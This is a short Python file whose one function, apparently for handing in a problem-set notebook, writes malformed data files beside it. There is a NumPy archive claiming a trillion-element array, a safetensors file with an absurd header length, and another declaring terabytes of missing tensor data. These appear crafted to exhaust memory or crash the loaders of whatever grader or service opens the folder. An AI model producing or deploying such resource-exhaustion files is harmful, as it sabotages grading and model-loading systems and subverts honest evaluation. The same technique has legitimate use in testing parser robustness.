import zipfile


def hand_in(folder, notebook, mark):
    with zipfile.ZipFile(folder / "images.npz", "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("images.npy", b"\x93NUMPY\x01\x00v\x00{'descr': '<f8', 'fortran_order': False, 'shape': (1000000, 1000000), }".ljust(128) + bytes(10**7))
    (folder / "weights.safetensors").write_bytes((2**63 - 1).to_bytes(8, "little") + b"{}")
    header = b'{"weight":{"dtype":"F32","shape":[1000000,1000000],"data_offsets":[0,4000000000000]}}'
    (folder / "more.safetensors").write_bytes(len(header).to_bytes(8, "little") + header)
    (folder / "ps7.ipynb").write_bytes(notebook)
